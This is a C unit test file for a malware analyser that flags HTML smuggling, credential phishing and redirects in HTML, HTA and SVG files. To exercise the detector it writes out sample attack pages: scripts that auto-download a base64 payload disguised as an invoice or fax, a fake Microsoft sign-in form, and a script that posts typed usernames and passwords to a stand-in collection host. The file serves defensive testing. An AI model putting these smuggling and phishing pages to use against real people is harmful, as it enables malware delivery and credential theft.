/*
 * test_html.c - the HTML/HTA/SVG analyser (src/objects/html.c) on the
 * ClamAV test file clam.exe.html (a link to a base64 data: URI holding
 * clam.exe) and on pages written here: Blob smuggling, msSaveOrOpenBlob,
 * a static <a download> data: link, SVG smuggling, credential phishing
 * (form and script), meta refresh, a JS redirect, and clean pages that
 * must give no fact.  Then hostile shapes: every prefix of every page,
 * 100k nested <div>, huge attributes and payloads.
 *
 * Payloads are clam.exe (544 bytes, a PE) or a ustar archive made here
 * around it (2560 bytes, so its base64 is past the 1 KiB literal rule).
 */
#include "test_helpers.h"

#include <stdio.h>

#include "objects/filetype.h"
#include "objects/object.h"

#define CLAMAV_DIR "/usr/share/clamav-testfiles"
#define CLAM_MD5 "aa15bcf478d165efd2065190eb473bcb"
#define CLAM_SIZE 544

static struct obj_limits
limits(void)
{
	struct obj_limits l = {
		.depth = 12, .objects = 1000, .object_bytes = 64ull << 20,
		.unpacked_bytes = 512ull << 20, .stream_bytes = 1ull << 30,
		.ratio = 100, .ratio_min = 16ull << 20, .padding_min = 4ull << 20,
		.deadline_us = 0, .mime = NULL,
	};
	return l;
}

static uint8_t *clam;		/* clam.exe, or NULL */
static char *clam_b64;
static char *tar_b64;

static void
dump(const struct obj_tree *t)
{
	for (guint i = 0; i < t->all->len; i++) {
		const struct mobj *o = g_ptr_array_index(t->all, i);
		print_error("  %s type=%s size=%llu flags=%#x\n", o->path,
		    o->type != NULL ? o->type->name : "?", (unsigned long long)o->size,
		    o->flags);
		for (guint k = 0; o->facts != NULL && k < o->facts->len; k++) {
			const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, k);
			print_error("    fact %s (%s)\n", obj_fact_name(f->id), f->detail ? f->detail : "-");
		}
		for (guint k = 0; o->urls != NULL && k < o->urls->len; k++)
			print_error("    url %.100s\n", (const char *)g_ptr_array_index(o->urls, k));
	}
}

static const struct mobj *
by_path(const struct obj_tree *t, const char *path)
{
	for (guint i = 0; i < t->all->len; i++) {
		const struct mobj *o = g_ptr_array_index(t->all, i);
		if (strcmp(o->path, path) == 0)
			return o;
	}
	return NULL;
}

static unsigned
nfacts(const struct obj_tree *t)
{
	unsigned n = 0;
	for (guint i = 0; i < t->all->len; i++) {
		const struct mobj *o = g_ptr_array_index(t->all, i);
		n += o->facts != NULL ? o->facts->len : 0;
	}
	return n;
}

static bool
has_url(const struct mobj *o, const char *url)
{
	for (guint k = 0; o->urls != NULL && k < o->urls->len; k++)
		if (strcmp(g_ptr_array_index(o->urls, k), url) == 0)
			return true;
	return false;
}

static bool
is_clam(const struct mobj *o)
{
	char md5[33];

	if (o == NULL || !o->hashed || o->size != CLAM_SIZE || o->type == NULL ||
	    strcmp(o->type->name, "pe") != 0)
		return false;
	obj_hex(o->md5, 16, md5);
	return strcmp(md5, CLAM_MD5) == 0;
}

/* A one-file ustar archive holding clam.exe. */
static uint8_t *
make_tar(size_t *n)
{
	uint8_t *t = g_malloc0(2560);
	memcpy(t, "clam.exe", 8);
	memcpy(t + 100, "0000644", 7);
	memcpy(t + 108, "0000000", 7);
	memcpy(t + 116, "0000000", 7);
	snprintf((char *)t + 124, 12, "%011o", CLAM_SIZE);
	memcpy(t + 136, "00000000000", 11);
	t[156] = '0';
	memcpy(t + 257, "ustar", 6);
	memcpy(t + 263, "00", 2);
	memset(t + 148, ' ', 8);
	unsigned sum = 0;
	for (int i = 0; i < 512; i++)
		sum += t[i];
	snprintf((char *)t + 148, 8, "%06o", sum);
	memcpy(t + 512, clam, CLAM_SIZE);
	*n = 2560;
	return t;
}

static int
setup(void **state)
{
	(void)state;
	gchar *b = NULL;
	gsize len = 0;

	if (g_file_get_contents(CLAMAV_DIR "/clam.exe", &b, &len, NULL) &&
	    len == CLAM_SIZE) {
		clam = (uint8_t *)b;
		clam_b64 = g_base64_encode(clam, CLAM_SIZE);
		size_t tn;
		uint8_t *tar = make_tar(&tn);
		tar_b64 = g_base64_encode(tar, tn);
		g_free(tar);
	} else {
		g_free(b);
	}
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	g_free(clam);
	g_free(clam_b64);
	g_free(tar_b64);
	return 0;
}

static struct obj_tree *
build(const char *name, const char *s)
{
	struct obj_limits lim = limits();
	static struct obj_limits keep;

	keep = lim;
	return obj_tree_build_file(name, (const uint8_t *)s, strlen(s), &keep);
}

/* The only fact of the tree is sym on path with detail. */
static void
want_fact(const struct obj_tree *t, const char *path, const char *sym,
    const char *detail)
{
	const struct mobj *o = by_path(t, path);
	if (o == NULL || o->facts == NULL || o->facts->len != 1 || nfacts(t) != 1) {
		print_error("want exactly %s (%s) on %s\n", sym, detail, path);
		dump(t);
		fail();
	}
	const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, 0);
	assert_string_equal(obj_fact_name(f->id), sym);
	assert_utf8_equal(f->detail, detail);
}

static void
want_type(const struct obj_tree *t, const char *path, const char *type)
{
	const struct mobj *o = by_path(t, path);
	if (o == NULL || o->type == NULL || strcmp(o->type->name, type) != 0) {
		print_error("want %s of type %s\n", path, type);
		dump(t);
		fail();
	}
}

/* --- the pages ------------------------------------------------------------ */

static char *
page_blob(void)
{
	return g_strdup_printf("<!DOCTYPE html><html><head><title>Invoice</title></head>"
	    "<body><p>Your document is downloading...</p><script>\n"
	    "var payload = \"%s\";\n"
	    "function b2a(b) { var s = atob(b); var a = new Uint8Array(s.length);\n"
	    "  for (var i = 0; i < s.length; i++) a[i] = s.charCodeAt(i); return a; }\n"
	    "var blob = new Blob([b2a(payload)], {type: 'application/octet-stream'});\n"
	    "var url = window.URL.createObjectURL(blob);\n"
	    "var a = document.createElement('a'); document.body.appendChild(a);\n"
	    "a.style = 'display: none'; a.href = url; a.download = \"Invoice_0423.tar\";\n"
	    "a.click(); window.URL.revokeObjectURL(url);\n"
	    "</script></body></html>\n", tar_b64);
}

static char *
page_mssave(void)
{
	/* the payload split into two literals joined with + */
	size_t h = strlen(tar_b64) / 2;
	return g_strdup_printf("<html><body onload=\"go()\"><script type=\"text/javascript\">\n"
	    "var d = '%.*s'+'%s';\n"
	    "function go() { var bytes = Uint8Array.from(atob(d), c => c.charCodeAt(0));\n"
	    "  var b = new Blob([bytes], {type: 'application/x-tar'});\n"
	    "  if (window.navigator.msSaveOrOpenBlob) navigator.msSaveOrOpenBlob(b, 'scan_0091.tar');\n"
	    "}\n</script></body></html>\n", (int)h, tar_b64, tar_b64 + h);
}

static char *
page_static(void)
{
	return g_strdup_printf("<html><body><p>Click to open your fax:</p>"
	    "<a id=\"f\" download=\"fax.exe\" href=\"data:application/octet-stream;base64,%s\">"
	    "Fax.pdf</a></body></html>\n", clam_b64);
}

static char *
page_svg(void)
{
	return g_strdup_printf("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\">\n"
	    "<rect width=\"100\" height=\"100\" fill=\"#fff\"/>\n"
	    "<script type=\"text/javascript\"><![CDATA[\n"
	    "var z = \"%s\";\n"
	    "var s = atob(z), u = new Uint8Array(s.length);\n"
	    "for (var i = 0; i < s.length; i++) { u[i] = s.charCodeAt(i); }\n"
	    "var b = new Blob([u], {type: 'application/octet-stream'});\n"
	    "var a = document.createElementNS('http://www.w3.org/1999/xhtml', 'a');\n"
	    "a.href = URL.createObjectURL(b); a.download = 'Statement.tar';\n"
	    "document.documentElement.appendChild(a); a.click();\n"
	    "]]></script>\n</svg>\n", tar_b64);
}

static const char page_phish[] =
    "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\">"
    "<title>Sign in to your account</title>"
    "<link rel=\"stylesheet\" href=\"https://aadcdn.msftauth.example.invalid/converged.css\">"
    "</head><body class=\"cb\"><div class=\"outer\"><div class=\"middle\">"
    "<img src=\"https://aadcdn.msftauth.example.invalid/logo.svg\" alt=\"Microsoft\">"
    "<div id=\"loginHeader\">Sign in</div>"
    "<form name=\"f1\" id=\"i0281\" method=\"post\" action=\"https://evil.example.invalid/p.php\">"
    "<input type=\"email\" name=\"loginfmt\" id=\"i0116\" placeholder=\"Email, phone, or Skype\">"
    "<input type=\"password\" name=\"passwd\" id=\"i0118\" placeholder=\"Password\">"
    "<input type=\"submit\" value=\"Sign in\">"
    "</form><a href=\"https://account.live.example.invalid/ResetPassword\">Forgot my password</a>"
    "</div></div></body></html>\n";

static const char page_phish_js[] =
    "<html><body><div>Session expired, please sign in again</div>"
    "<input id=\"u\" type=\"email\"><input id=\"p\" type=\"password\">"
    "<button onclick=\"send()\">Next</button><script>\n"
    "function send() { var x = new XMLHttpRequest();\n"
    "  x.open(\"POST\", \"https://collect.example.invalid/log.php\", true);\n"
    "  x.send(document.getElementById('u').value + ':' + document.getElementById('p').value); }\n"
    "</script></body></html>\n";

static const char page_onload[] =
    "<html><body onload=\"top.location = 'https://onload.example.invalid/'\"></body></html>";

static const char page_refresh[] =
    "<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://phish.example.invalid/o365/?id=77'\">"
    "</head><body>Loading your document...</body></html>\n";

static const char page_jsredir[] =
    "<html><head><script>\n"
    "var e = 'victim@example.org';\n"
    "if (window.location.href == \"https://nothing.example.invalid/\") { }\n"
    "window.location.href = \"https://phish.example.invalid/landing?e=\" + e;\n"
    "</script></head><body></body></html>\n";

static const char page_newsletter[] =
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\">"
    "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">"
    "<title>Weekly news</title><style>td{font-family:Arial}</style></head>"
    "<body><table width=\"600\" align=\"center\"><tr><td>"
    "<a href=\"https://news.example.org/?utm_source=mail\"><img alt=\"News\" "
    "src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\"></a>"
    "<h1>This week</h1><p>Read <a href=\"https://news.example.org/a/1\">our story</a>"
    " and <a href=\"/relative/link\">more</a>.</p>"
    "<form action=\"https://news.example.org/search\" method=\"get\">"
    "<input type=\"text\" name=\"q\"><input type=\"submit\" value=\"Search\"></form>"
    "<p><a href=\"https://news.example.org/unsubscribe?u=1\">Unsubscribe</a></p>"
    "<button onclick=\"window.location.href='https://shop.example.org/'\">Shop</button>"
    "<img src=\"https://news.example.org/open.gif?u=1\" width=\"1\" height=\"1\">"
    "</td></tr></table></body></html>\n";

/* A login form posting to a relative URL: opened from a mail, it posts
 * to a file: URL and goes nowhere, so it is not a credential form. */
static const char page_login_relative[] =
    "<html><body><form action=\"/login\" method=\"post\">"
    "<input type=\"text\" name=\"user\"><input type=\"password\" name=\"pw\">"
    "<input type=\"submit\"></form></body></html>\n";

/* --- tests ----------------------------------------------------------------- */

static void
test_clam_exe_html(void **state)
{
	(void)state;
	gchar *b = NULL;
	gsize n = 0;

	if (!g_file_get_contents(CLAMAV_DIR "/clam.exe.html", &b, &n, NULL))
		skip();
	struct obj_limits lim = limits();
	struct obj_tree *t = obj_tree_build_file("clam.exe.html", (uint8_t *)b, n, &lim);
	want_type(t, "clam.exe.html", "html");
	want_fact(t, "clam.exe.html", "HTML_SMUGGLING",
	    "link to a base64 data: URI (application/octet-stream)");
	const struct mobj *c = by_path(t, "clam.exe.html/smuggled.bin");
	if (!is_clam(c) || c->origin != OBJ_FROM_EMBEDDED || t->all->len != 2) {
		dump(t);
		fail();
	}
	obj_tree_free(t);
	g_free(b);
}

static void
check_tar_child(const struct obj_tree *t, const char *tarpath)
{
	want_type(t, tarpath, "tar");
	char *exe = g_strconcat(tarpath, "/clam.exe", NULL);
	if (!is_clam(by_path(t, exe)) || t->all->len != 3) {
		dump(t);
		fail();
	}
	g_free(exe);
}

static void
test_smuggling(void **state)
{
	(void)state;
	if (clam == NULL)
		skip();
	char *p = page_blob();
	struct obj_tree *t = build("invoice.html", p);
	want_fact(t, "invoice.html", "HTML_SMUGGLING",
	    "atob+Blob+createObjectURL+download: Invoice_0423.tar");
	check_tar_child(t, "invoice.html/Invoice_0423.tar");
	obj_tree_free(t);
	g_free(p);

	p = page_mssave();
	t = build("scan.htm", p);
	want_fact(t, "scan.htm", "HTML_SMUGGLING", "atob+Blob+msSaveOrOpenBlob: scan_0091.tar");
	check_tar_child(t, "scan.htm/scan_0091.tar");
	obj_tree_free(t);
	g_free(p);

	p = page_svg();
	t = build("image.svg", p);
	want_type(t, "image.svg", "svg");
	want_fact(t, "image.svg", "HTML_SMUGGLING",
	    "atob+Blob+createObjectURL+download: Statement.tar");
	check_tar_child(t, "image.svg/Statement.tar");
	obj_tree_free(t);
	g_free(p);

	p = page_static();
	t = build("fax.html", p);
	want_fact(t, "fax.html", "HTML_SMUGGLING", "static <a download> with a data: URI: fax.exe");
	if (!is_clam(by_path(t, "fax.html/fax.exe")) || t->all->len != 2) {
		dump(t);
		fail();
	}
	obj_tree_free(t);
	g_free(p);
}

static void
test_credentials(void **state)
{
	(void)state;
	struct obj_tree *t = build("login.html", page_phish);
	want_fact(t, "login.html", "HTML_CREDENTIAL_FORM", "evil.example.invalid");
	const struct mobj *o = by_path(t, "login.html");
	assert_true(has_url(o, "https://evil.example.invalid/p.php"));
	assert_true(has_url(o, "https://account.live.example.invalid/ResetPassword"));
	assert_true(has_url(o, "https://aadcdn.msftauth.example.invalid/logo.svg"));
	assert_int_equal(o->urls->len, 4);
	assert_int_equal(t->all->len, 1);
	obj_tree_free(t);

	t = build("expired.html", page_phish_js);
	want_fact(t, "expired.html", "HTML_CREDENTIAL_FORM", "collect.example.invalid");
	obj_tree_free(t);
}

static void
test_redirects(void **state)
{
	(void)state;
	struct obj_tree *t = build("doc.html", page_refresh);
	want_fact(t, "doc.html", "HTML_REDIRECT",
	    "meta refresh to https://phish.example.invalid/o365/?id=77");
	assert_true(has_url(by_path(t, "doc.html"), "https://phish.example.invalid/o365/?id=77"));
	obj_tree_free(t);

	t = build("doc.html", page_onload);
	want_fact(t, "doc.html", "HTML_REDIRECT",
	    "script sets location to https://onload.example.invalid/");
	obj_tree_free(t);

	t = build("doc.html", page_jsredir);
	want_fact(t, "doc.html", "HTML_REDIRECT",
	    "script sets location to https://phish.example.invalid/landing?e=");
	obj_tree_free(t);
}

static void
test_clean(void **state)
{
	(void)state;
	struct obj_tree *t = build("news.html", page_newsletter);
	const struct mobj *o = by_path(t, "news.html");
	if (nfacts(t) != 0 || t->all->len != 1 || o == NULL || o->urls == NULL ||
	    o->urls->len != 5) {
		dump(t);
		fail();
	}
	assert_true(has_url(o, "https://news.example.org/search"));
	obj_tree_free(t);

	t = build("login.html", page_login_relative);
	if (nfacts(t) != 0 || t->all->len != 1) {
		dump(t);
		fail();
	}
	obj_tree_free(t);

	/* the same HTML as an HTA is analysed too: still clean */
	t = build("news.hta", "<html><head><hta:application id=\"x\"></head>"
	    "<body><a href=\"https://example.org/\">x</a></body></html>");
	want_type(t, "news.hta", "hta");
	assert_int_equal(nfacts(t), 0);
	assert_true(has_url(by_path(t, "news.hta"), "https://example.org/"));
	obj_tree_free(t);
}

/* Every prefix of every page: no crash, no leak, a carved clam.exe is
 * only ever whole. */
static void
test_prefixes(void **state)
{
	(void)state;
	if (clam == NULL)
		skip();
	char *pages[] = { page_blob(), page_mssave(), page_static(), page_svg(),
		g_strdup(page_phish), g_strdup(page_phish_js), g_strdup(page_refresh),
		g_strdup(page_jsredir), g_strdup(page_newsletter) };
	struct obj_limits lim = limits();
	unsigned runs = 0;

	for (size_t i = 0; i < G_N_ELEMENTS(pages); i++) {
		size_t n = strlen(pages[i]);
		/* the long pages: every prefix near the ends, every 7th in between */
		for (size_t k = 0; k <= n; k += (k < 600 || n - k < 600) ? 1 : 7) {
			struct obj_tree *t = obj_tree_build_file("p.html",
			    (const uint8_t *)pages[i], k, &lim);
			for (guint j = 0; j < t->all->len; j++) {
				const struct mobj *o = g_ptr_array_index(t->all, j);
				if (o->type != NULL && strcmp(o->type->name, "pe") == 0 &&
				    o->size == CLAM_SIZE && !is_clam(o) &&
				    !(o->flags & (OBJ_TRUNCATED | OBJ_DAMAGED))) {
					dump(t);
					fail();
				}
			}
			obj_tree_free(t);
			runs++;
		}
		g_free(pages[i]);
	}
	assert_true(runs > 5000);
}

static void
test_deep_nesting(void **state)
{
	(void)state;
	const char *head = "<html><head><meta http-equiv=\"refresh\" "
	    "content=\"1;url=https://deep.example.invalid/\"></head><body>";
	GString *s = g_string_new(head);
	for (int i = 0; i < 100000; i++)
		g_string_append(s, "<div>");
	/* past the tag limit: not seen */
	g_string_append(s, "<script>window.location = 'https://late.example.invalid/';</script>");
	gint64 t0 = g_get_monotonic_time();
	struct obj_tree *t = build("deep.html", s->str);
	gint64 ms = (g_get_monotonic_time() - t0) / 1000;
	print_message("100k nested <div>: %lld ms\n", (long long)ms);
	/* 16384 tags: html, head, meta, /head, body, then 16379 divs */
	char *want = g_strdup_printf("meta refresh to https://deep.example.invalid/"
	    " [first %zu of %zu bytes analysed]", strlen(head) + 16379 * 5, s->len);
	want_fact(t, "deep.html", "HTML_REDIRECT", want);
	g_free(want);
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

static void
test_huge(void **state)
{
	(void)state;
	/* a 4 MiB URL: obj_url cuts it */
	GString *s = g_string_new("<html><body><a href=\"https://big.example.invalid/");
	for (int i = 0; i < (4 << 20); i++)
		g_string_append_c(s, 'A' + i % 26);
	g_string_append(s, "\" onclick=\"");
	for (int i = 0; i < (1 << 20); i++)
		g_string_append_c(s, 'x');
	g_string_append(s, "\">x</a></body></html>");
	struct obj_tree *t = build("big.html", s->str);
	const struct mobj *o = by_path(t, "big.html");
	if (o == NULL || o->urls == NULL || o->urls->len != 1 ||
	    strlen(g_ptr_array_index(o->urls, 0)) > 2048 || nfacts(t) != 0) {
		dump(t);
		fail();
	}
	obj_tree_free(t);
	g_string_free(s, TRUE);

	/* a 6 MiB data: link: decoded to 4 MiB at most */
	s = g_string_new("<html><body><a download=\"big.bin\" "
	    "href=\"data:application/octet-stream;base64,");
	while (s->len < (6u << 20))
		g_string_append(s, "QUFBQUFB");
	g_string_append(s, "\">x</a></body></html>");
	t = build("big.html", s->str);
	o = by_path(t, "big.html/big.bin");
	if (o == NULL || o->size == 0 || o->size > (4u << 20) || nfacts(t) != 1) {
		dump(t);
		fail();
	}
	o = by_path(t, "big.html");
	const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, 0);
	assert_int_equal(f->id, OBJ_FACT_HTML_SMUGGLING);
	assert_utf8_equal(f->detail, "static <a download> with a data: URI: big.bin");
	obj_tree_free(t);
	g_string_free(s, TRUE);
}

/* The shared clean documents: no fact at all. */
static void
test_clean_documents(void **state)
{
	(void)state;
	static const char *const files[] = { "oletools/clean/harmless-clean.doc",
		"oletools/clean/harmless-clean.docx", "oletools/clean/harmless-clean.xml",
		"strelka/test.doc", "strelka/test.docx", "clamav/has_png_and_jpeg.xls",
		"oletools/other/text" };
	struct obj_limits lim = limits();

	for (size_t i = 0; i < G_N_ELEMENTS(files); i++) {
		char *path = g_build_filename(MAMORI_TESTDATA, "maldocs", files[i], NULL);
		gchar *b = NULL;
		gsize n = 0;
		if (!g_file_get_contents(path, &b, &n, NULL)) {
			print_error("missing %s\n", path);
			fail();
		}
		struct obj_tree *t = obj_tree_build_file(files[i], (uint8_t *)b, n, &lim);
		if (nfacts(t) != 0) {
			dump(t);
			fail();
		}
		obj_tree_free(t);
		g_free(b);
		g_free(path);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_clam_exe_html),
		cmocka_unit_test(test_smuggling),
		cmocka_unit_test(test_credentials),
		cmocka_unit_test(test_redirects),
		cmocka_unit_test(test_clean),
		cmocka_unit_test(test_prefixes),
		cmocka_unit_test(test_deep_nesting),
		cmocka_unit_test(test_huge),
		cmocka_unit_test(test_clean_documents),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
